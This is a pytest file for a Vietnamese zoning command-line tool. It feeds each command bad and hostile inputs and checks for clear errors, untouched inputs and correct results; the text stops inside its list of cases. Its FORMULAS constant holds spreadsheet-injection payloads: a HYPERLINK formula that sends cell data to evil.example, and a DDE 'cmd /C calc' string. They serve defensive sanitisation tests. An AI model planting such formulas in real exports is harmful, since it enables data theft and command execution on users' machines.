"""Bad and unusual inputs to every command, as a new user and as a hostile one would give them.

Each case runs the command line (in process) and asserts its exit code; for a mistake, a
message in Vietnamese with English beside that names the file and says what to do; that
every input file is byte-identical after the run; that no temporary (``.part``) file and
no half-written output is left; and, for the cases that succeed, that the result is right.
The last test prints the tally: tried, clear errors, correct results, tracebacks, unsafe.
"""

from __future__ import annotations

import csv
import hashlib
import json
import math
import os
import re
import unicodedata
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import geopandas as gpd
import numpy as np
import pandas as pd
import pyogrio
import pytest
import yaml
from shapely.geometry import Point, Polygon, box

from zoning import cli, terms
from zoning.builder import build as build_zoning
from zoning.files import temporary_path
from zoning.resources import path as resource

from .conftest import CRS, X0, Y0, admin_layers, frame, invoke, sensitive_layers, square
from .hostile_silent import WebCase, silent_cases, silent_world, web_cases

NATIONAL = resource("rules", "nd08.yaml")
OVERLAY = resource("rules", "provinces", "cao-bang.yaml")
FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"bấm")', "-2+3+cmd|' /C calc'!A0", "+SUM(1,2)", "@SUM(1)"]
TALLY: dict[str, list[str]] = {"error": [], "ok": [], "traceback": [], "wrong": [], "unsafe": []}


# ------------------------------------------------------------------------- the inputs


def lonlat(x: float, y: float) -> tuple[float, float]:
    from zoning.inputs.crs import WGS84, reproject

    point = reproject(np.array([Point(x, y)]), CRS, WGS84)[0]
    return round(point.x, 7), round(point.y, 7)


def write_gpkg(path: Path, layers: dict[str, gpd.GeoDataFrame]) -> Path:
    for name, layer in layers.items():
        pyogrio.write_dataframe(layer, path, layer=name, driver="GPKG", append=path.exists())
    return path


def site_rows() -> list[dict]:
    """Five sites of the small province: in the town (strict), the reserve core, its buffer, the river corridor, open land."""
    places = {"s1": (1500, 1500), "s2": (7000, 7000), "s3": (5500, 5500), "s4": (3000, 3000), "s5": (8500, 1500)}
    rows = []
    for site, (x, y) in places.items():
        lon, lat = lonlat(X0 + x, Y0 + y)
        rows.append({"id": site, "name": f"Địa điểm {site}", "lon": lon, "lat": lat})
    return rows


def google_earth_kml(rows: list[dict]) -> str:
    """The sites as Google Earth saves them: a folder of placemarks, written by hand so that
    the file does not depend on the GDAL version's KML writer."""
    marks = "".join(
        f'<Placemark><name>{r["name"]}</name><ExtendedData><Data name="id"><value>{r["id"]}</value></Data></ExtendedData>'
        f'<Point><coordinates>{r["lon"]!r},{r["lat"]!r},0</coordinates></Point></Placemark>'
        for r in rows
    )
    return f'<?xml version="1.0" encoding="UTF-8"?><kml xmlns="http://www.opengis.net/kml/2.2"><Document><Folder><name>sites</name>{marks}</Folder></Document></kml>'


@pytest.fixture(scope="module")
def world(tmp_path_factory) -> dict[str, Path]:
    """Every input file of the battery, made once; the tests never change them."""
    root = tmp_path_factory.mktemp("world")
    paths: dict[str, Path] = {"root": root}
    layers = {**admin_layers(), **sensitive_layers()}
    folder = root / "layers"
    folder.mkdir()
    for kind, layer in layers.items():
        layer.to_file(folder / f"{kind}.geojson")
    paths["folder"] = folder
    paths["gpkg"] = write_gpkg(root / "in.gpkg", layers)
    paths["build"] = root / "b.gpkg"
    build_zoning(paths["gpkg"], central_meridian=105.75).write(paths["build"])

    rows = site_rows()
    paths["csv"] = root / "sites.csv"
    pd.DataFrame(rows).to_csv(paths["csv"], index=False)
    paths["semicolon"] = root / "semicolon.csv"
    pd.DataFrame(rows).to_csv(paths["semicolon"], index=False, sep=";", decimal=",")
    points = gpd.GeoDataFrame(pd.DataFrame(rows).drop(columns=["lon", "lat"]),
                              geometry=[Point(r["lon"], r["lat"]) for r in rows], crs="EPSG:4326")
    paths["sites_gpkg"] = write_gpkg(root / "sites.gpkg", {"sites": points})
    flagged = points.iloc[:2].assign(illustrative=[True, True])
    plain = points.iloc[2:].assign(id=["p3", "p4", "p5"])
    paths["two_layers"] = write_gpkg(root / "two-layers.gpkg", {"drawn": flagged, "surveyed": plain})
    with pd.ExcelWriter(root / "sites.xlsx") as excel:
        pd.DataFrame(rows).to_excel(excel, sheet_name="Danh sách", index=False)
        pd.DataFrame(rows[:2]).to_excel(excel, sheet_name="Hai", index=False)
    paths["xlsx"] = root / "sites.xlsx"
    paths["broken_xlsx"] = root / "broken.xlsx"
    paths["broken_xlsx"].write_bytes(b"PK\x03\x04 not really a workbook")
    paths["kml"] = root / "sites.kml"
    paths["kml"].write_text(google_earth_kml(rows), encoding="utf-8")
    paths["kmz"] = root / "sites.kmz"
    with zipfile.ZipFile(paths["kmz"], "w") as kmz:
        kmz.write(paths["kml"], "doc.kml")
    paths["tab"] = root / "sites.tab"
    pyogrio.write_dataframe(points, paths["tab"], driver="MapInfo File")
    paths["mif"] = root / "sites.mif"
    pyogrio.write_dataframe(points, paths["mif"], driver="MapInfo File")
    parcels = gpd.GeoDataFrame(geometry=[square(1400, 1400, 200), square(8400, 1400, 200)], crs=CRS)
    paths["dgn"] = root / "parcels.dgn"
    pyogrio.write_dataframe(parcels, paths["dgn"], driver="DGN")

    hostile = pd.DataFrame(rows[:4]).assign(name=FORMULAS, name_en=["=1+1", "ok", "-5", "@x"])
    paths["hostile_csv"] = root / "hostile.csv"
    hostile.to_csv(paths["hostile_csv"], index=False)
    paths["control_csv"] = root / "control.csv"
    pd.DataFrame(rows[:2]).assign(name=["Khu\x0bA", "Khu\x01B\x7f"]).to_csv(paths["control_csv"], index=False)
    paths["empty_csv"] = root / "empty.csv"
    paths["empty_csv"].write_bytes(b"")
    paths["header_csv"] = root / "header.csv"
    paths["header_csv"].write_text("id,name,lon,lat\n", encoding="utf-8")
    paths["nodelim_csv"] = root / "nodelim.csv"
    paths["nodelim_csv"].write_text("địa điểm\nA\nB\n", encoding="utf-8")
    paths["latin_csv"] = root / "latin.csv"
    paths["latin_csv"].write_bytes(b"id,name,lon,lat\n1,Ph\xe1n,106.2,22.6\n")  # Latin-1, not UTF-8
    many = [{"id": f"m{i}", "name": f"Điểm {i}", **dict(zip(("lon", "lat"), lonlat(X0 + 200 + 240 * i, Y0 + 5000)))} for i in range(40)]
    paths["many_csv"] = root / "many.csv"
    pd.DataFrame(many).to_csv(paths["many_csv"], index=False)
    paths["capacity_csv"] = root / "capacity.csv"
    pd.DataFrame([{**rows[4], "type": "wastewater_treatment", "capacity": 500}]).to_csv(paths["capacity_csv"], index=False)

    # check results of the good sites, in every format, to map and to re-read
    for suffix in ("gpkg", "csv", "json"):
        paths[f"results_{suffix}"] = root / f"results.{suffix}"
        invoke(["check", paths["csv"], "-z", paths["build"], "-o", paths[f"results_{suffix}"]])
    paths["other_json"] = root / "other.json"
    paths["other_json"].write_text(json.dumps({"hello": [1, 2]}), encoding="utf-8")

    # rule files
    paths["rules_folder"] = root / "rules-folder"
    paths["rules_folder"].mkdir()
    paths["latin_rules"] = root / "latin-rules.yaml"
    paths["latin_rules"].write_bytes(NATIONAL.read_text(encoding="utf-8").encode("cp1258", errors="replace"))
    paths["placeholder_rules"] = root / "placeholder.yaml"
    paths["placeholder_rules"].write_text(re.sub(r'unit_name_vi: "[^"]*"', 'unit_name_vi: "{code} {name}"', NATIONAL.read_text(encoding="utf-8"), count=1),
                                          encoding="utf-8")
    orphan = yaml.safe_load(OVERLAY.read_text(encoding="utf-8"))
    orphan.pop("extends")
    paths["orphan_overlay"] = root / "orphan.yaml"
    paths["orphan_overlay"].write_text(yaml.safe_dump(orphan, allow_unicode=True), encoding="utf-8")

    # layers that used to be accepted silently or end in a traceback
    nan_reserve = sensitive_layers()["nature_reserves"].copy()
    nan_reserve.loc[0, "geometry"] = Polygon(
        [(X0 + 6000, Y0 + 6000), (X0 + 8000, Y0 + 6000), (float("nan"), Y0 + 7000), (X0 + 8000, Y0 + 8000), (X0 + 6000, Y0 + 8000)]
    )
    paths["nan_layers"] = write_gpkg(root / "nan.gpkg", {**admin_layers(), "nature_reserves": nan_reserve})
    ring = frame(
        [{"id": "flat", "name": "Khu phẳng", "part": "core", "geometry": Polygon([(106.0, 22.55), (106.01, 22.55), (106.02, 22.55)])}], crs="EPSG:4326"
    )
    paths["flat_layers"] = write_gpkg(root / "flat.gpkg", {**{k: v.to_crs(4326) for k, v in admin_layers().items()}, "nature_reserves": ring})
    france = frame([{"id": "fr", "name": "Lõi vẽ sai hệ tọa độ", "part": "core", "geometry": box(2.30, 48.80, 2.32, 48.82)}], crs="EPSG:4326")
    paths["france_layers"] = write_gpkg(
        root / "france.gpkg", {**admin_layers(), "nature_reserves": pd.concat([sensitive_layers()["nature_reserves"], france.to_crs(CRS)])}
    )
    nfd = sensitive_layers()["nature_reserves"].assign(name=lambda f: f["name"].map(lambda n: unicodedata.normalize("NFD", n)))
    paths["nfd_layers"] = write_gpkg(root / "nfd.gpkg", {**admin_layers(), "nature_reserves": nfd})
    by_name = {
        "id": "by-name",
        "version": "1",
        "extends": "nd08",
        "title_vi": "t",
        "title_en": "t",
        "source": "test",
        "criteria": [
            {
                "id": "by-name",
                "zone": "emission_limited",
                "layer": "nature_reserves",
                "where": {"name": ["Khu bảo tồn D"]},
                "title_vi": "t",
                "title_en": "t",
                "citation_vi": "c",
                "citation_en": "c",
                "status": "unconfirmed",
            }
        ],
    }
    paths["by_name_overlay"] = root / "by-name.yaml"
    paths["by_name_overlay"].write_text(yaml.safe_dump(by_name, allow_unicode=True), encoding="utf-8")
    towns = sensitive_layers()["urban_areas"].assign(name=[FORMULAS[1], "Thị trấn\x0bB\x01"])
    communes = admin_layers()["communes"].assign(name=[FORMULAS[0], "Đông Nam", "Tây Bắc", "Đông Bắc"])
    paths["hostile_layers"] = write_gpkg(root / "hostile-layers.gpkg", {**admin_layers(), "communes": communes, "urban_areas": towns})
    paths["hostile_build"] = root / "hostile-build.gpkg"
    invoke(["build", "--layers", paths["hostile_layers"], "--central-meridian", "105.75", "-o", paths["hostile_build"]])

    silent_world(paths, root, write_gpkg, invoke)

    paths["a_file"] = root / "a-file.txt"
    paths["a_file"].write_text("not a folder", encoding="utf-8")
    (root / "in-link.gpkg").symlink_to(paths["gpkg"])
    os.link(paths["gpkg"], root / "in-hardlink.gpkg")
    (root / "results-link.html").symlink_to(paths["results_gpkg"])
    (root / "b-link.tif").symlink_to(paths["build"])
    (root / "b-link.docx").symlink_to(paths["build"])
    return paths


def digests(root: Path) -> dict[str, str]:
    out = {}
    for path in sorted(root.rglob("*")):
        if path.is_file() and not path.is_symlink():
            out[str(path.relative_to(root))] = hashlib.sha256(path.read_bytes()).hexdigest()
    return out


def read_only_folder(tmp: Path) -> Path:
    """A folder where no file can be created: a chmod 555 folder, or for root (who ignores it) /sys."""
    if os.geteuid() != 0:
        folder = tmp / "read-only"
        folder.mkdir()
        folder.chmod(0o555)
        return folder
    if not Path("/sys").is_dir():
        pytest.skip("running as root without /sys: no folder refuses new files")
    return Path("/sys")


# --------------------------------------------------------------------------- the cases


@dataclass
class Case:
    """One command line. ``expect`` is ``error`` (exit 2, a clear message) or ``ok`` (exit 0, then ``check``)."""

    id: str
    args: list[str]
    expect: str = "error"
    says: tuple[str, ...] = ()  # in the message (error) or the output (ok)
    check: Callable[[dict[str, Path], Path, object], None] | None = None
    outputs: tuple[str, ...] = ()  # files the run may write in the world (none by default)
    unsafe_check: bool = False  # an unsafe-content case: a failure of ``check`` counts as unsafe


def csv_rows(path: Path) -> list[dict]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def check_csv_safe(world, out, result) -> None:
    path = out / "r.csv"
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark"
    rows = csv_rows(path)
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@")) and not (value.startswith("-") and not _number(value)), value
    assert [r["name"] for r in rows] == ["'" + f for f in FORMULAS]
    assert rows[2]["name_en"] == "-5"  # a plain number stays as it is


def _number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def check_xlsx_safe(world, out, result) -> None:
    from openpyxl import load_workbook

    workbook = load_workbook(out / "r.xlsx")
    formulas = [c.coordinate for ws in workbook.worksheets for row in ws.iter_rows() for c in row if c.data_type == "f"]
    assert not formulas, formulas
    sites = workbook.worksheets[0]
    header = [c.value for c in sites[2]]
    names = [row[header.index("Tên / Name")] for row in sites.iter_rows(min_row=3, values_only=True)]
    assert names == FORMULAS  # the visible text is unchanged
    assert "Kết luận / Verdict" in header and "Mã kết luận / Verdict code" in header


def check_annex_safe(world, out, result) -> None:
    from docx import Document
    from openpyxl import load_workbook

    workbook = load_workbook(out / "a.xlsx")
    cells = [c for ws in workbook.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert FORMULAS[0] in {c.value for c in cells}  # the unit named after the town, as text
    text = "\n".join(p.text for p in Document(out / "a.docx").paragraphs)
    assert "số 7/QĐ-UBND" in text and "\x0b" not in text
    assert any("Thị trấn B" in str(c.value) for c in cells)  # control characters removed from the name


def check_results(verdicts: dict[str, str], table: str = "r.csv") -> Callable:
    def check(world, out, result) -> None:
        rows = {r["site_id"]: r for r in csv_rows(out / table)}
        assert {k: rows[k]["verdict"] for k in verdicts} == verdicts

    return check


GOOD_VERDICTS = None  # filled from results.csv of the good sites


def same_verdicts_as_csv(table: str, key: Callable[[str], str] = lambda s: s) -> Callable:
    def check(world, out, result) -> None:
        expected = {r["site_id"]: r["verdict"] for r in csv_rows(world["results_csv"])}
        got = {key(r["site_id"]): r["verdict"] for r in csv_rows(out / table)}
        assert got == expected

    return check


def check_map_sites(count: int) -> Callable:
    def check(world, out, result) -> None:
        page = (out / "m.html").read_text(encoding="utf-8")
        assert page.count('"verdict":') >= count
        assert "sites " + str(count) in result.stdout or f"địa điểm / sites {count}" in result.stdout

    return check


def check_skipped_outside(world, out, result) -> None:
    skipped = pyogrio.read_dataframe(out / "b.gpkg", layer="skipped")
    outside = skipped[skipped["reason"].str.contains("outside the province")]
    assert outside["source_id"].tolist() == ["fr"] and outside["criterion"].tolist() == ["nd08-22-2-c"]  # the reserve core
    assert "nằm hoàn toàn ngoài ranh giới tỉnh" in outside["reason_vi"].iloc[0]
    units = pyogrio.read_dataframe(out / "b.gpkg", layer="units", read_geometry=False)
    assert "fr" not in set(units["source_id"])


def check_nfd_matches(world, out, result) -> None:
    units = pyogrio.read_dataframe(out / "b.gpkg", layer="units", read_geometry=False)
    lineage = pyogrio.read_dataframe(out / "b.gpkg", layer="lineage", read_geometry=False)
    by_name = lineage[lineage["criterion"] == "by-name"].sort_values("source_id")
    # core and buffer are both named "Khu bảo tồn D" (decomposed in the data, composed in the rule): the rule selects both.
    # The buffer ring is emission-limited by ND08 first, so its land records the rule; the core, strict by ND08, is a plan
    # conflict (a feature listed under both zones), reported as such, and its land (400 ha) meets the rule held back too
    assert by_name["source_id"].tolist() == ["n1", "n2"] and by_name["overlap_ha"].tolist() == pytest.approx([400, 1200])
    conflicts = pyogrio.read_dataframe(out / "b.gpkg", layer="conflicts", read_geometry=False)
    assert conflicts["criterion_emission_limited"].str.contains("by-name").any()
    assert (units["name"].map(lambda n: unicodedata.is_normalized("NFC", n))).all()


def check_illustrative(world, out, result) -> None:
    rows = {r["site_id"]: r["illustrative"] for r in csv_rows(out / "r.csv")}
    assert rows == {"s1": "True", "s2": "True", "p3": "False", "p4": "False", "p5": "False"}


def check_capacity_distance(world, out, result) -> None:
    row = csv_rows(out / "r.csv")[0]
    assert float(row["safety_distance_residential_m"]) > 0 and row["safety_status_residential"] == "confirmed"


def check_summary(world, out, result) -> None:
    assert "40 địa điểm / site(s)" in result.stdout and "--verbose" in result.stdout
    assert "m39" not in result.stdout  # no row per site


def check_verbose(world, out, result) -> None:
    assert "m39" in result.stdout and "m0" in result.stdout


def check_styles(world, out, result) -> None:
    styles = pyogrio.read_dataframe(out / "b.gpkg", layer="layer_styles", read_geometry=False)
    assert set(styles["f_table_name"]) == {"zones", "units", "communes"}


def check_note(text: str) -> Callable:
    def check(world, out, result) -> None:
        assert text in " ".join((result.stdout + result.stderr).split())

    return check


def check_report_index(out: Path) -> None:
    index = (out / "reports" / "index.html").read_text(encoding="utf-8")
    assert "Vùng bảo vệ nghiêm ngặt" in index and "Khu A" in index and "\x0b" not in index  # zone names beside the codes; text cleaned


def check_stale_removed(world, out, result) -> None:
    assert not list(out.glob(".*part*"))
    assert (out / "z.tif").exists()


def check_long_name(world, out, result) -> None:
    assert (out / ("z" * 241 + ".tif")).exists()


def check_english(world, out, result) -> None:
    assert "site(s)" in result.stdout and "địa điểm" not in result.stdout


def check_kml(world, out, result) -> None:
    rows = csv_rows(out / "r.csv")
    assert len(rows) == 5 and [r["name"] for r in rows] == [f"Địa điểm s{i}" for i in range(1, 6)]
    same = {r["name"]: r["verdict"] for r in csv_rows(world["results_csv"])}
    assert {r["name"]: r["verdict"] for r in rows} == same


def check_dgn(world, out, result) -> None:
    rows = csv_rows(out / "r.csv")
    assert len(rows) == 2 and float(rows[0]["area_ha"]) == pytest.approx(4.0, rel=1e-6)
    assert rows[0]["zones_touched"] == "strict"  # inside the class II town


def check_table_columns(world, out, result) -> None:
    rows = csv_rows(out / "r.csv")
    assert list(rows[0])[-3:] == ["verdict_vi", "zones_touched_vi", "findings_vi"]
    assert rows[0]["verdict_vi"] == terms.label("verdicts", rows[0]["verdict"])
    assert "Vùng bảo vệ nghiêm ngặt" in rows[0]["zones_touched_vi"] and rows[0]["findings_vi"].startswith("[")


W = "{%s}"  # a world path in the args


def w(key: str) -> str:
    return W % key


CASES = [
    # --------------------------------------------------------------- data loss
    Case(
        "build-out-is-input",
        ["build", "--layers", w("gpkg"), "--central-meridian", "105.75", "-o", w("gpkg")],
        says=("in.gpkg", "inputs are never overwritten"),
    ),
    Case(
        "build-out-in-input-folder",
        ["build", "--layers", w("folder"), "--central-meridian", "105.75", "-o", "{folder}/build.gpkg"],
        says=("inside the input folder",),
    ),
    Case("build-out-symlink-to-input", ["build", "--layers", w("gpkg"), "--central-meridian", "105.75", "-o", "{root}/in-link.gpkg"], says=("in.gpkg",)),
    Case(
        "build-out-hardlink-to-input",
        ["build", "--layers", w("gpkg"), "--central-meridian", "105.75", "-o", "{root}/in-hardlink.gpkg"],
        says=("in-hardlink.gpkg",),
    ),
    Case(
        "build-out-below-input-folder",
        ["build", "--layers", w("folder"), "--central-meridian", "105.75", "-o", "{folder}/sub/b.gpkg"],
        says=("inside the input folder",),
    ),
    Case("check-out-is-sites", ["check", w("sites_gpkg"), "-z", w("build"), "-o", w("sites_gpkg")], says=("sites.gpkg", "inputs are never overwritten")),
    Case("check-out-is-build", ["check", w("sites_gpkg"), "-z", w("build"), "-o", w("build")], says=("b.gpkg",)),
    Case("check-out-is-sites-csv", ["check", w("csv"), "-z", w("build"), "-o", w("csv")], says=("sites.csv",)),
    Case("check-out-is-build-input", ["check", w("csv"), "-z", w("build"), "-o", "{root}/in.gpkg"], says=("in.gpkg",)),
    Case("raster-out-is-build", ["raster", w("build"), "-o", w("build")], says=("b.gpkg", ".tif")),
    Case("raster-out-links-to-build", ["raster", w("build"), "-o", "{root}/b-link.tif"], says=("b.gpkg",)),
    Case("map-out-is-build", ["map", w("build"), "-o", w("build")], says=(".html",)),
    Case("map-out-links-to-sites", ["map", w("build"), "--sites", w("results_gpkg"), "-o", "{root}/results-link.html"], says=("results.gpkg",)),
    Case(
        "annex-out-in-build-input-folder",
        ["annex", w("build"), "-o", "{root}/b.docx", "--xlsx"],
        expect="ok",
        check=lambda world, out, r: None,
        outputs=("b.docx", "b.xlsx"),
    ),
    Case("annex-out-links-to-build", ["annex", w("build"), "-o", "{root}/b-link.docx"], says=("b.gpkg",)),
    Case("siting-out-is-build", ["siting", w("build"), "-f", "sanitary_landfill", "-d", "1000", "-o", w("build")], says=("b.gpkg",)),
    Case("demo-into-shipped-data", ["demo", "-o", str(resource("layers", "demo"))], says=("inputs are never overwritten",)),
    # ------------------------------------------------------- unsafe content
    Case("check-csv-formulas", ["check", w("hostile_csv"), "-z", w("build"), "-o", "{out}/r.csv"], expect="ok", check=check_csv_safe, unsafe_check=True),
    Case("check-xlsx-formulas", ["check", w("hostile_csv"), "-z", w("build"), "-o", "{out}/r.xlsx"], expect="ok", check=check_xlsx_safe, unsafe_check=True),
    Case(
        "annex-formulas-and-control-characters",
        ["annex", w("hostile_build"), "-o", "{out}/a.docx", "--xlsx", "--decision", "số 7/QĐ-UBND\x0bngày 1/1/2027"],
        expect="ok",
        check=check_annex_safe,
        unsafe_check=True,
        says=("control characters removed",),
    ),
    Case(
        "check-control-characters",
        ["check", w("control_csv"), "-z", w("build"), "-o", "{out}/r.xlsx", "--report", "{out}/reports"],
        expect="ok",
        check=lambda world, out, r: (check_note("control characters removed from column 'name'")(world, out, r), check_report_index(out)),
        unsafe_check=True,
    ),
    Case(
        "map-of-hostile-build",
        ["map", w("hostile_build"), "-o", "{out}/m.html", "--offline"],
        expect="ok",
        check=lambda world, out, r: assert_escaped(out / "m.html"),
        unsafe_check=True,
    ),
    Case(
        "build-control-characters-noted",
        ["build", "--layers", w("hostile_layers"), "--central-meridian", "105.75", "-o", "{out}/b.gpkg"],
        expect="ok",
        check=check_note("control characters removed"),
        unsafe_check=True,
    ),
    # --------------------------------------------------- tracebacks → errors
    Case("raster-read-only-folder", ["raster", w("build"), "-o", "{readonly}/z.tif"], says=("cannot write in folder",)),
    Case("reports-read-only-folder", ["check", w("csv"), "-z", w("build"), "--report", "{readonly}/reports"], says=("cannot write",)),
    Case("map-out-is-a-folder", ["map", w("build"), "-o", "{out}"], says=("is a folder",)),
    Case("map-out-folder-named-html", ["map", w("build"), "-o", "{out}/dir.html"], says=("is a folder",)),
    Case("report-folder-is-a-file", ["check", w("csv"), "-z", w("build"), "--report", w("a_file")], says=("a file of that name exists",)),
    Case("raster-parent-is-a-file", ["raster", w("build"), "-o", "{root}/a-file.txt/z.tif"], says=("is a file, not a folder",)),
    Case("raster-long-legal-name", ["raster", w("build"), "-r", "50", "-o", "{out}/" + "z" * 241 + ".tif"], expect="ok", check=check_long_name),
    Case("raster-name-too-long", ["raster", w("build"), "-o", "{out}/" + "z" * 300 + ".tif"], says=("limit",)),
    Case("rules-folder", ["rules", "--rules", w("rules_folder")], says=("is a folder",)),
    Case("province-rules-folder", ["rules", "--province-rules", w("rules_folder")], says=("is a folder",)),
    Case("rules-not-utf8", ["rules", "--rules", w("latin_rules")], says=("not UTF-8",)),
    Case("rules-unknown-placeholder", ["rules", "--rules", w("placeholder_rules")], says=("{code}", "placeholder.yaml")),
    Case(
        "build-unknown-placeholder",
        ["build", "--layers", w("gpkg"), "--rules", w("placeholder_rules"), "--central-meridian", "105.75", "-o", "{out}/b.gpkg"],
        says=("{code}",),
    ),
    Case("rules-device", ["rules", "--rules", "/dev/zero"], says=("not a regular file",)),
    Case("distances-device", ["check", w("csv"), "-z", w("build"), "--distances", "/dev/zero"], says=("not a regular file",)),
    Case("check-empty-csv", ["check", w("empty_csv"), "-z", w("build")], says=("empty.csv", "empty")),
    Case("check-header-only-csv", ["check", w("header_csv"), "-z", w("build")], says=("header.csv", "no rows")),
    Case("check-no-delimiter-csv", ["check", w("nodelim_csv"), "-z", w("build")], says=("nodelim.csv", "no coordinate columns")),
    Case("check-latin-csv", ["check", w("latin_csv"), "-z", w("build")], says=("latin.csv", "UTF-8")),
    Case("build-meridian-nan", ["build", "--layers", w("gpkg"), "--central-meridian", "nan", "-o", "{out}/b.gpkg"], says=("not a longitude",)),
    Case("build-meridian-inf", ["build", "--layers", w("gpkg"), "--central-meridian", "inf", "-o", "{out}/b.gpkg"], says=("not a longitude",)),
    Case("check-dev-zero", ["check", "/dev/zero", "-z", w("build")], says=("/dev/zero", "not a regular file")),
    Case("check-dev-zero-csv", ["check", "/dev/zero/x.csv", "-z", w("build")], says=("not found",)),
    Case("build-layers-dev-zero", ["build", "--layers", "/dev/zero", "--central-meridian", "105.75", "-o", "{out}/b.gpkg"], says=("not a regular file",)),
    Case("build-file-as-zoning", ["check", w("csv"), "-z", w("csv")], says=("sites.csv",)),
    Case("map-sites-results-csv", ["map", w("build"), "--sites", w("results_csv"), "-o", "{out}/m.html", "--offline"], expect="ok", check=check_map_sites(5)),
    Case("map-sites-results-json", ["map", w("build"), "--sites", w("results_json"), "-o", "{out}/m.html", "--offline"], expect="ok", check=check_map_sites(5)),
    Case("map-sites-other-json", ["map", w("build"), "--sites", w("other_json"), "-o", "{out}/m.html"], says=("other.json", "not the results")),
    Case("map-sites-sites-csv", ["map", w("build"), "--sites", w("csv"), "-o", "{out}/m.html"], says=("verdict",)),
    Case("check-xlsx", ["check", w("xlsx"), "-z", w("build"), "-o", "{out}/r.csv"], expect="ok", check=same_verdicts_as_csv("r.csv")),
    Case(
        "check-xlsx-sheet",
        ["check", w("xlsx"), "--sheet", "Hai", "-z", w("build"), "-o", "{out}/r.csv"],
        expect="ok",
        check=lambda world, out, r: assert_count(out / "r.csv", 2),
    ),
    Case("check-xlsx-missing-sheet", ["check", w("xlsx"), "--sheet", "Không có", "-z", w("build")], says=("Không có", "sheets: Danh sách, Hai")),
    Case("check-broken-xlsx", ["check", w("broken_xlsx"), "-z", w("build")], says=("broken.xlsx", "Excel")),
    # ------------------------------------------------ wrong results with exit 0
    Case(
        "build-rules-swapped",
        ["build", "--layers", w("gpkg"), "--rules", str(OVERLAY), "--province-rules", str(NATIONAL), "-o", "{out}/b.gpkg"],
        says=("cao-bang.yaml", "--province-rules"),
    ),
    Case("rules-swapped", ["rules", "--rules", str(OVERLAY), "--province-rules", str(NATIONAL)], says=("is a province overlay",)),
    Case("overlay-without-extends", ["rules", "--province-rules", w("orphan_overlay")], says=("orphan.yaml", "extends")),
    Case("build-meridian-10", ["build", "--layers", w("gpkg"), "--central-meridian", "10", "-o", "{out}/b.gpkg"], says=("does not contain the province",)),
    Case("build-meridian-200", ["build", "--layers", w("gpkg"), "--central-meridian", "200", "-o", "{out}/b.gpkg"], says=("does not contain the province",)),
    Case(
        "build-meridian-differs",
        ["build", "--layers", w("gpkg"), "--province-rules", str(OVERLAY), "--central-meridian", "105.5", "-o", "{out}/b.gpkg"],
        expect="ok",
        check=check_note("differs from the province overlay's 105°45'"),
    ),
    Case("build-nan-vertex", ["build", "--layers", w("nan_layers"), "--central-meridian", "105.75", "-o", "{out}/b.gpkg"], says=("n1", "NaN")),
    Case(
        "build-zero-area-ring",
        ["build", "--layers", w("flat_layers"), "--central-meridian", "105.75", "-o", "{out}/b.gpkg"],
        says=("flat", "area as drawn is zero"),
    ),
    Case(
        "build-feature-in-france",
        ["build", "--layers", w("france_layers"), "--central-meridian", "105.75", "-o", "{out}/b.gpkg"],
        expect="ok",
        check=check_skipped_outside,
        says=("outside the province",),
    ),
    Case(
        "build-nfd-data-nfc-rule",
        ["build", "--layers", w("nfd_layers"), "--province-rules", w("by_name_overlay"), "--central-meridian", "105.75", "-o", "{out}/b.gpkg"],
        expect="ok",
        check=check_nfd_matches,
    ),
    Case("build-out-shp", ["build", "--layers", w("gpkg"), "--central-meridian", "105.75", "-o", "{out}/build.shp"], says=(".shp", ".gpkg")),
    Case("raster-out-png", ["raster", w("build"), "-o", "{out}/z.png"], says=(".tif",)),
    Case("map-out-pdf", ["map", w("build"), "-o", "{out}/m.pdf"], says=(".html",)),
    Case("annex-out-pdf", ["annex", w("build"), "-o", "{out}/a.pdf"], says=(".docx",)),
    Case("siting-out-shp", ["siting", w("build"), "-f", "sanitary_landfill", "-d", "1000", "-o", "{out}/c.shp"], says=(".gpkg",)),
    Case("check-out-txt", ["check", w("csv"), "-z", w("build"), "-o", "{out}/r.txt"], says=(".xlsx",)),
    Case(
        "siting-capacity-negative",
        ["siting", w("build"), "-f", "sanitary_landfill", "-d", "1000", "--capacity", "-5", "-o", "{out}/c.gpkg"],
        says=("--capacity -5",),
    ),
    Case(
        "siting-capacity-nan",
        ["siting", w("build"), "-f", "sanitary_landfill", "-d", "1000", "--capacity", "nan", "-o", "{out}/c.gpkg"],
        says=("--capacity nan",),
    ),
    Case(
        "siting-communes-empty",
        ["siting", w("build"), "-f", "sanitary_landfill", "-d", "1000", "--communes", ",,,", "-o", "{out}/c.gpkg"],
        says=("--communes",),
    ),
    Case("siting-zones-empty", ["siting", w("build"), "-f", "sanitary_landfill", "-d", "1000", "--zones", ",", "-o", "{out}/c.gpkg"], says=("--zones",)),
    Case(
        "siting-min-area-nan", ["siting", w("build"), "-f", "sanitary_landfill", "-d", "1000", "--min-area", "nan", "-o", "{out}/c.gpkg"], says=("--min-area",)
    ),
    Case("check-two-layers-illustrative", ["check", w("two_layers"), "-z", w("build"), "-o", "{out}/r.csv"], expect="ok", check=check_illustrative),
    Case(
        "check-point-capacity",
        [
            "check",
            "--point",
            ",".join(map(str, lonlat(X0 + 8500, Y0 + 1500))),
            "-t",
            "wastewater_treatment",
            "--capacity",
            "500",
            "-z",
            w("build"),
            "-o",
            "{out}/r.csv",
        ],
        expect="ok",
        check=check_capacity_distance,
    ),
    Case("check-capacity-column", ["check", w("capacity_csv"), "-z", w("build"), "-o", "{out}/r.csv"], expect="ok", check=check_capacity_distance),
    Case("check-capacity-negative", ["check", w("csv"), "-z", w("build"), "--capacity", "-1"], says=("--capacity -1",)),
    Case("check-capacity-nan", ["check", w("csv"), "-z", w("build"), "--capacity", "nan"], says=("--capacity nan",)),
    Case("check-tolerance-nan", ["check", w("csv"), "-z", w("build"), "--tolerance", "nan"], says=("--tolerance",)),
    Case("check-search-distance-nan", ["check", w("csv"), "-z", w("build"), "--search-distance", "nan"], says=("--search-distance",)),
    Case("map-tolerance-nan", ["map", w("build"), "--tolerance", "nan", "-o", "{out}/m.html"], says=("--tolerance",)),
